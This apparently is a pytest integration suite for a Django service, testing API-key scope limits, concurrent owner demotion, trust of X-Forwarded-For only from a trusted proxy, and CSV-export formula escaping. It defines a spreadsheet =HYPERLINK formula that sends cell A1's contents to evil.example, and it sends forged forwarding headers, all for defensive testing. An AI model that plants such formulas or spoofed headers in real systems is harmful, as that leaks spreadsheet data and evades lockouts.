"""Authority and trust through the real server (issue 22, cases 1-4 and 12): the Procfile's processes on a
private PostgreSQL and Redis, an organization with two owners, and the owner's read, ingest and
admin keys.

- A key acts for its organization with its scope, never as the person who made it: no key removes
  its maker's (an owner's) membership; read and ingest keys neither create nor change the maker's
  alert subscriptions nor replay their deliveries (REST and GraphQL).
- Two owners demoting each other at the same moment leave one owner.
- X-Forwarded-For counts only from TRUSTED_PROXIES (here 127.0.0.2): rotating it from anywhere else
  neither resets the bad-key lockout nor the auth throttle nor changes the audit log's address.
- A CSV export hands no spreadsheet a formula.
"""

from __future__ import annotations

import csv
import http.client
import io
import itertools
import json
import threading
import time

import pytest
import requests

from .private_services import AppServer, PrivatePostgres, PrivateRedis, app_env, manage
from .report import record

pytestmark = pytest.mark.slow

PASSWORD = "reliability-pass-1"
PROXY = "127.0.0.2"  # the one trusted proxy; the tests' own address, 127.0.0.1, is not one
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"open")'
SECTION = "Isolation and access"

SEED = f"""
import json
from allauth.account.models import EmailAddress
from django.utils import timezone
from accounts.models import Membership, Role, User
from accounts.services import create_api_key
from accounts.tenancy import actor_for_user
from alerts.models import AlertSubscription, Notification
owner = User.objects.get(email="ops@example.com")
org = Membership.objects.get(user=owner).organization
second = User.objects.create_user(email="second@example.com", password="{PASSWORD}")
EmailAddress.objects.create(user=second, email=second.email, verified=True, primary=True)
Membership.objects.create(user=second, organization=org, role=Role.OWNER)
actor = actor_for_user(owner, org.pk)
keys = {{scope: create_api_key(actor=actor, name=scope, scope=scope)[1] for scope in ("read", "ingest", "admin")}}
sub = AlertSubscription.objects.create(organization=org, user=owner, name="owner's", channels=["email"])
sent = Notification.objects.create(organization=org, idempotency_key="seed:1", subscription=sub, user=owner,
                                   channel="email", email=owner.email, due_at=timezone.now(), status="sent")
print(json.dumps({{"keys": keys, "subscription": sub.pk, "delivery": sent.pk,
                  "owner": Membership.objects.get(user=owner).pk, "second": Membership.objects.get(user=second).pk}}))
"""


@pytest.fixture(scope="module")
def stack():
    pg, redis = PrivatePostgres(), PrivateRedis()
    server = None
    try:
        pg.psql("CREATE DATABASE ah")
        env = app_env(pg.url("ah"), redis.url(), TRUSTED_PROXIES=PROXY)
        manage(env, "migrate", "--noinput")
        manage(env, "bootstrap_org", "--email", "ops@example.com", "--password", PASSWORD, "--org", "Trust")
        seed = json.loads(manage(env, "shell", "-c", SEED).strip().splitlines()[-1])
        server = AppServer(env, workers="alerts:1")
        yield server, seed
    finally:
        if server:
            server.stop()
        redis.close()
        pg.close()


def _key(seed, scope) -> requests.Session:
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {seed['keys'][scope]}"
    return session


def _refused(response, statuses=(403, 404)) -> bool:
    body = response.json() if response.headers.get("Content-Type", "").startswith("application/json") else {}
    return response.status_code in statuses and set(body.get("error", {})) >= {"code", "message", "details"}


def _graphql(session, base, query, **variables) -> list[str]:
    body = session.post(f"{base}/graphql/", json={"query": query, "variables": variables}, timeout=10).json()
    return [e.get("extensions", {}).get("code") for e in body.get("errors") or []]


def _members(server, seed) -> dict[int, str]:
    listed = _key(seed, "admin").get(f"{server.base}/api/v1/members/", timeout=10).json()["results"]
    return {m["id"]: m["role"] for m in listed}


def test_no_key_removes_the_owner_who_made_it(stack):
    server, seed = stack
    answers = {scope: _key(seed, scope).delete(f"{server.base}/api/v1/members/{seed['owner']}/", timeout=10)
               for scope in ("read", "ingest", "admin")}
    graphql = {scope: _graphql(_key(seed, scope), server.base, "mutation($id: ID!) { removeMember(id: $id) }",
                               id=seed["owner"]) for scope in ("read", "ingest", "admin")}
    left = _key(seed, "admin").get(f"{server.base}/api/v1/audit-log/?action=member.left", timeout=10).json()
    still_owner = _members(server, seed).get(seed["owner"]) == "owner"
    record(SECTION, "A key removing its maker's (an owner's) membership: read/ingest/admin keys, REST and GraphQL",
           outcome=", ".join(f"{s} {r.status_code}" for s, r in answers.items()) + "; GraphQL "
                   + ", ".join(f"{s} {c[0] if c else 'ok'}" for s, c in graphql.items()),
           owner_still_owner=still_owner, member_left_events=left["count"])
    assert all(_refused(r, (403,)) for r in answers.values()), {s: r.text for s, r in answers.items()}
    assert all(codes == ["permission_denied"] for codes in graphql.values()), graphql
    assert still_owner and left["count"] == 0


@pytest.mark.parametrize("scope", ["read", "ingest"])
def test_weak_keys_leave_their_makers_alerts_alone(stack, scope):
    server, seed = stack
    key, base, sub = _key(seed, scope), server.base, seed["subscription"]
    rest = {
        "create": key.post(f"{base}/api/v1/alert-subscriptions/", json={"name": "x", "channels": ["email"]},
                           timeout=10),
        "disable": key.patch(f"{base}/api/v1/alert-subscriptions/{sub}/", json={"enabled": False}, timeout=10),
        "delete": key.delete(f"{base}/api/v1/alert-subscriptions/{sub}/", timeout=10),
        "replay": key.post(f"{base}/api/v1/deliveries/{seed['delivery']}/replay/", timeout=10),
    }
    graphql = {
        "create": _graphql(key, base, 'mutation { createAlertSubscription(input: {name: "x"}) { __typename } }'),
        "disable": _graphql(key, base, "mutation($id: ID!) { updateAlertSubscription(id: $id, input: "
                                       "{enabled: false}) { __typename } }", id=sub),
        "replay": _graphql(key, base, "mutation($id: ID!) { replayDelivery(id: $id) { id } }", id=seed["delivery"]),
    }
    admin = _key(seed, "admin")
    subscriptions = admin.get(f"{base}/api/v1/alert-subscriptions/", timeout=10).json()["results"]
    deliveries = admin.get(f"{base}/api/v1/deliveries/", timeout=10).json()["count"]
    record(SECTION, f"Key of scope {scope} creating, disabling, deleting its maker's alert subscriptions and replaying "
                    "their deliveries (REST and GraphQL)",
           outcome="REST " + ", ".join(f"{a} {r.status_code}" for a, r in rest.items()) + "; GraphQL "
                   + ", ".join(f"{a} {c[0] if c else 'ok'}" for a, c in graphql.items()),
           subscriptions_after=len(subscriptions), deliveries_after=deliveries)
    assert all(_refused(r) for r in rest.values()), {a: (r.status_code, r.text[:200]) for a, r in rest.items()}
    assert all(codes in (["permission_denied"], ["not_found"]) for codes in graphql.values()), graphql
    assert [(s["id"], s["enabled"]) for s in subscriptions] == [(sub, True)] and deliveries == 1


def _signed_in(server, email) -> requests.Session:
    session = requests.Session()
    r = session.post(f"{server.base}/api/v1/auth/login/", json={"email": email, "password": PASSWORD}, timeout=10)
    assert r.status_code == 200, r.text
    session.headers["X-CSRFToken"] = session.cookies["csrftoken"]
    return session


def test_two_owners_demoting_each_other_at_once_leave_one_owner(stack):
    server, seed = stack
    sessions = {"owner": _signed_in(server, "ops@example.com"), "second": _signed_in(server, "second@example.com")}
    target = {"owner": seed["second"], "second": seed["owner"]}
    rounds, outcomes = 6, []
    for _ in range(rounds):
        barrier, answers = threading.Barrier(2), {}

        def demote(who, barrier, answers):
            barrier.wait()
            answers[who] = sessions[who].patch(f"{server.base}/api/v1/members/{target[who]}/", json={"role": "admin"},
                                               timeout=30)

        threads = [threading.Thread(target=demote, args=(who, barrier, answers)) for who in sessions]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        roles = _members(server, seed)
        owners = [m for m in (seed["owner"], seed["second"]) if roles[m] == "owner"]
        outcomes.append((sorted(r.status_code for r in answers.values()), len(owners)))
        if len(owners) != 1:
            break
        survivor = "owner" if owners == [seed["owner"]] else "second"
        restored = sessions[survivor].patch(f"{server.base}/api/v1/members/{target[survivor]}/",
                                            json={"role": "owner"}, timeout=10)
        assert restored.status_code == 200, restored.text
    record(SECTION, "Two owners demoting each other at the same moment (concurrent PATCHes, 6 rounds)",
           outcome="; ".join(f"{codes} -> {n} owner(s)" for codes, n in outcomes),
           rounds_without_owner=sum(1 for _, n in outcomes if n == 0))
    # The loser answers 409 (the last-owner rule) when both checks overlap, or 403 when the winner's
    # demotion committed before the loser's permission check: it is no longer an owner. Either way
    # exactly one owner is left, which is the promise.
    assert all(codes in ([200, 409], [200, 403]) and owners == 1 for codes, owners in outcomes), outcomes


def test_a_csv_export_hands_no_spreadsheet_a_formula(stack):
    server, seed = stack
    admin, base = _key(seed, "admin"), server.base
    series = admin.post(f"{base}/api/v1/series/", json={"symbol": "@PUMP", "kind": "metric"}, timeout=10)
    assert series.status_code == 201, series.text
    rule = admin.post(f"{base}/api/v1/rules/", json={"name": HOSTILE_NAME, "metrics": "value > 1",
                                                     "series": series.json()["id"]}, timeout=10)
    assert rule.status_code == 201, rule.text
    text = admin.get(f"{base}/api/v1/export/?dataset=rules&file_format=csv", timeout=30).text
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    record(SECTION, "CSV export of a rule named =HYPERLINK(...) on series @PUMP",
           outcome=f"cells starting a formula: {len(formulas)}", quoted=sum(1 for c in cells if c.startswith("'")))
    assert formulas == [] and f"'{HOSTILE_NAME}" in cells and "'@PUMP" in cells


def _post_from(source: str, port: int, path: str, body: dict, headers: dict) -> tuple[int, dict]:
    """A POST from a chosen local address (the trusted proxy is 127.0.0.2)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(source, 0))
    try:
        conn.request("POST", path, body=json.dumps(body), headers={"Content-Type": "application/json", **headers})
        response = conn.getresponse()
        return response.status, json.loads(response.read() or b"{}")
    finally:
        conn.close()


def _login_ip(server, seed) -> str | None:
    events = _key(seed, "admin").get(f"{server.base}/api/v1/audit-log/?action=login", timeout=10).json()
    return events["results"][0]["ip"] if events["results"] else None


def test_forwarded_for_counts_only_from_trusted_proxies(stack):
    """Last in the module: it uses up 127.0.0.1's sign-in allowance and bad-key budget."""
    server, seed = stack
    forged = (f"203.0.113.{n}" for n in itertools.count(1))
    login = {"email": "second@example.com", "password": PASSWORD}

    status, _ = _post_from("127.0.0.1", server.port, "/api/v1/auth/login/", login, {"X-Forwarded-For": next(forged)})
    assert status == 200
    direct_ip = _login_ip(server, seed)
    status, _ = _post_from(PROXY, server.port, "/api/v1/auth/login/", login,
                           {"X-Forwarded-For": "6.6.6.6, 198.51.100.23"})
    assert status == 200
    proxied_ip = _login_ip(server, seed)

    def until_429(send, limit):
        for n in range(1, limit + 1):
            status, body = send()
            if status == 429:
                return n, body
        return None, None

    t0 = time.monotonic()
    bad_keys, key_429 = until_429(lambda: _post_from(
        "127.0.0.1", server.port, "/api/v1/watchlists/", {},
        {"Authorization": "Bearer ahk_deadbeef_" + "x" * 40, "X-Forwarded-For": next(forged)}), 40)
    logins, login_429 = until_429(lambda: _post_from(
        "127.0.0.1", server.port, "/api/v1/auth/login/",
        {"email": f"nobody{time.monotonic_ns()}@example.com", "password": "wrong-password"},
        {"X-Forwarded-For": next(forged)}), 40)
    record(SECTION, "X-Forwarded-For rotated on every request by a client that is not a trusted proxy",
           outcome=f"bad keys refused with 429 from request {bad_keys}, sign-ins from request {logins}; audit IP "
                   f"{direct_ip} (forged header ignored), via the trusted proxy {proxied_ip}",
           seconds=round(time.monotonic() - t0, 1))
    assert direct_ip == "127.0.0.1" and proxied_ip == "198.51.100.23"
    assert bad_keys == 21 and key_429["error"]["code"] == "rate_limited", (bad_keys, key_429)
    assert logins is not None and logins <= 21 and login_429["error"]["code"] == "rate_limited", (logins, login_429)
